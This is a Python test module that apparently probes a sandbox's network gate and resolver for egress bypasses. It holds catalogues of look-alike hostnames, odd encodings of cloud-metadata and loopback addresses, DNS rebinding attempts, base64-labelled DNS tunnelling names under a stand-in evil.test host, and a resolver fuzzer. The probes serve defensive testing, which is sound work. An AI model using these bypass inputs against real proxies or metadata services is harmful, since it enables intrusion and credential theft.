"""Probes for names and addresses: what is not listed, look-alikes, odd spellings, and names that lead elsewhere."""

from __future__ import annotations

from corral.testing.hostile.window.tools import heard_nothing, opening, probe

_LISTED = "the gate connects to what the policy lists, and to nothing else"
_JUDGED = "names are looked up on the host, each address is judged, and that address is connected to"

UNLISTED = probe(
    "reach-what-is-not-listed",
    _LISTED,
    r"""
works()
answers = {"by name": talk(("evil.test", 80), GET % b"") if can(socket.getaddrinfo, "evil.test", 80) else None}
for host in ("evil.test", T["evil"]):
    for port in (80, 443, 7000):
        answers[f"CONNECT {host}:{port}"] = connect(f"{host}:{port}", GET % b"")
        answers[f"SOCKS {host}:{port}"] = socks(host, port, GET % b"")
    answers[f"GET {host}"] = talk(PROXY, f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
answers["SOCKS packed"] = socks(socket.inet_aton(T["evil"]), 80, GET % b"")
for port in (22, 80, 443, 7000, 65535):
    answers[f"direct {port}"] = talk((T["evil"], port), GET % b"")
answers["another port"] = talk(("other.test", 80), GET % b"")
answers["another port by CONNECT"] = connect("other.test:80", GET % b"")
refused(answers)
""",
)

NOTHING = probe(
    "reach-anything-with-an-empty-list",
    "an empty list permits nothing",
    r"""
answers = {}
for host in ("good.test", "evil.test", "x.wild.test", T["good"], T["own_address"]):
    answers[f"CONNECT {host}"] = connect(f"{host}:80", GET % b"")
    answers[f"SOCKS {host}"] = socks(host, 80, GET % b"")
    answers[f"GET {host}"] = talk(PROXY, f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    answers[f"direct {host}"] = talk((host, 80), GET % b"")
code, found = look_up("good.test")
if found or code == 0:
    breached(f"good.test was resolved: {code} {found}")
refused(answers)
""",
    make=opening(),
)

LOOK_ALIKES = probe("ask-for-names-that-look-alike", "names are compared whole, in one form", r"""
works()
names = [
    "good.test.evil.test", "evilgood.test", "goodtest", "good.test-evil.test", "wild.test", "evilwild.test",
    "good_test",
    "wild.test.evil.test", "evil.test/good.test", "evil.test?good.test", "evil.test#good.test", "evil.test\\.good.test",
    "good.test@evil.test", "good.test:80@evil.test", "evil.test:80#@good.test", "evil.test\0.good.test", "good.test\0",
    "evil.test\0.wild.test", "good.test evil.test", "evil.test\t.wild.test", "evil.test\r\n.wild.test", "*.wild.test",
    "good.test..", ".good.test", "evil.test%00.wild.test", "evil.test%2ewild.test", "%67ood.test",
    "evil.test\u3002wild.test.x",
    "g\u043e\u043ed.test", "goo\u0501.test", "g\u200bood.test.evil", "\u0131nner.test", "a" * 250 + ".wild.test",
    "xn--gd-0uaa.test",
    "evil.test,good.test", "[good.test]", "evil.test;x.wild.test", "\udcff.evil.test", "-.evil.test", "",
]
answers = {}
for name in names:
    answers[f"CONNECT {name!r}"] = connect(f"{name}:80", GET % b"lookalike")
    answers[f"GET {name!r}"] = talk(PROXY,
        f"GET http://{name}/lookalike HTTP/1.1\r\nHost: {name}\r\n\r\n".encode("utf-8", "surrogateescape"))
    if len(name.encode("utf-8", "surrogateescape")) < 256:
        answers[f"SOCKS {name!r}"] = socks(name, 80, GET % b"lookalike")
resolved = []
for labels in ([b"good.test", b"evil"], [b"evil\0", b"wild", b"test"], [b"good", b"test", b"evil", b"test"],
    [b"evil.test\0wild", b"test"],
               [b"evil", b"test", b"\0"], [b"wild", b"test"], [b"a" * 63] * 3 + [b"evil", b"test"], [b"\xff\xfe",
                   b"evil"]):
    try:
        code, found = look_up(labels, seconds=0.5)
    except OSError:
        continue  # no answer is a refusal, too
    if found:
        resolved.append(labels)
if resolved:
    breached(f"resolved: {resolved}")
refused(answers)
""", after=heard_nothing(b"lookalike"), timeout=60)  # fmt: skip

_SPELLINGS = r"""
hosts = [
    "2852039166", "0xA9FEA9FE", "0xa9.0xfe.0xa9.0xfe", "0251.0376.0251.0376", "169.254.43518", "169.16689662",
    "169.254.169.254.",
    "0000169.254.169.254", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[0:0:0:0:0:ffff:a9fe:a9fe]",
    "[64:ff9b::a9fe:a9fe]",
    "[2002:a9fe:a9fe::1]", "[::169.254.169.254]", "[::ffff:0:a9fe:a9fe]", "[fd00:ec2::254]", "[fd00:ec2::254%lo]",
    "[fd00:ec2::254%25out]",
    "fd00:ec2::254", "[fe80::1%out]", "[fe80::1]", "0", "127.1", "0x7f.1", "017700000001", "localhost",
    "localhost.", "LOCALHOST",
    "[::]", "[::1]", "0.0.0.0", "127.0.0.1", "127.77.0.1", "10.1", "0xa000001", "012.0.0.1", "167772161",
    "\uff11\uff16\uff19.254.169.254", "169\u3002254\u3002169\u3002254", "\u2460\u2465\u2468.254.169.254",
    "metadata.test", "metadata6.test", "inner.test",
    "mapped.test", "translated.test", "loopback.test", "own.test", "zero.test", "shared.test", "100.100.100.200",
    "172.17.0.1", "168.63.129.16", "cloud.test", "sixtofour.test",
    T["own_address"], f"[{T['own_address_6']}]", f"[::ffff:{T['own_address']}]",
]
answers = {}
for host in hosts:
    for port in {80, T["tcp_port"]}:
        answers[f"CONNECT {host}:{port}"] = connect(f"{host}:{port}", GET % b"odd")
    answers[f"GET {host}"] = talk(PROXY, f"GET http://{host}/odd HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    answers[f"SOCKS {host}"] = socks(host.strip("[]"), 80, GET % b"odd")
packed = {"metadata": socket.inet_aton("169.254.169.254"), "loopback": socket.inet_aton("127.0.0.1"), "zero": bytes(4)}
for text in ("::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "::a9fe:a9fe", "fd00:ec2::254",
    "::1", "::", "fe80::1"):
    packed[text] = socket.inet_pton(socket.AF_INET6, text)
for name, address in packed.items():
    answers[f"SOCKS {name}"] = socks(address, T["tcp_port"] if len(address) == 4 else 80, GET % b"odd")
for host in ("169.254.169.254", "169.254.170.2", "10.0.0.1", "192.168.1.1", "172.17.0.1", "100.100.100.200",
    "168.63.129.16", "fd00:ec2::254",
             "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "198.18.255.254", T["own_address"],
             T["own_address_6"], "metadata.test", "inner.test", "own.test", "loopback.test"):
    for port in (80, 443, 2375):
        answers[f"direct {host}:{port}"] = talk((host, port), GET % b"odd", seconds=1)
for name in ("printer.local", "db.internal", "metadata.google.internal", "router.lan", "gateway", "x.localhost"):
    look_up(name)  # the host would ask its neighbours; its resolver shows what it was asked
    answers[f"CONNECT {name}"] = connect(f"{name}:80", GET % b"odd")
refused(answers)
"""
SPELLINGS = probe(
    "spell-addresses-in-odd-ways", _JUDGED, "works()\n" + _SPELLINGS, after=heard_nothing(b"GET /odd"), timeout=60
)
SPELLINGS_OPEN = probe(
    "reach-inner-addresses-with-an-open-window", "private, loopback, metadata and the host's own addresses stay shut",
    "works()\n" + _SPELLINGS, after=heard_nothing(b"GET /odd"), timeout=60, make=opening(mode="open"),
)  # fmt: skip

REBINDING = probe(
    "rebind-a-permitted-name",
    _JUDGED,
    r"""
works()
seen = []
for turn in range(30):
    seen.append(talk(("rebind.test", 80), GET % b"") if can(socket.getaddrinfo, "rebind.test", 80) else None)
    seen.append(connect("rebind.test:80", GET % b""))
    seen.append(talk(("mixed.test", 80), GET % b"") if can(socket.getaddrinfo, "mixed.test", 80) else None)
    seen.append(socks("mixed.test", 80, GET % b""))
address = look_up("x.wild.test")[1]  # what it stands for must not change either
for _ in range(3):
    seen.append(talk((address[0], 80), GET % b"") if address else None)
held(f"{len(seen)} attempts, of which {sum(answer is not None for answer in seen)} led to a permitted address")
""",
    timeout=60,
)

DISCOVERY = probe(
    "tunnel-by-names-that-are-not-permitted",
    "only permitted names are looked up on the host",
    r"""
works()
for number in range(40):
    for name in (f"c2VjcmV0{number}.evil.test", f"{number}.good.test", f"{number}.test"):
        code, found = look_up(name)
        if found or code == 0:
            breached(f"{name} was resolved: {code} {found}")
for kind in (2, 5, 6, 12, 15, 16, 28, 33, 64, 65, 251, 252, 255):
    for name in ("good.test", "evil.test", "254.169.254.169.in-addr.arpa"):
        try:
            look_up(name, kind, seconds=0.5)
        except OSError:
            pass
held("asked; the host's resolver shows what it was asked")
""",
)

MALFORMED = probe("send-broken-packets-to-the-resolver", "lookups are parsed strictly, and dropped if broken", r"""
works()
base = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\4good\4test\0\0\1\0\1"
noise = random.Random(1)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    sock.connect(RESOLVER)
    for number in range(2000):
        packet = bytearray(base if number % 3 else bytes(noise.randrange(256) for _ in range(noise.randrange(600))))
        for _ in range(noise.randrange(6)):
            if packet:
                packet[noise.randrange(len(packet))] = noise.randrange(256)
        if number % 7 == 0:
            packet[12:12] = b"\xc0\x0c" * noise.randrange(40)
        if number % 11 == 0:
            packet += bytes(noise.randrange(3000))
        can(sock.send, bytes(packet))
time.sleep(0.2)
still_works()
held("2000 packets, and the next lookup is answered")
""", severity="host_dos", timeout=60)  # fmt: skip
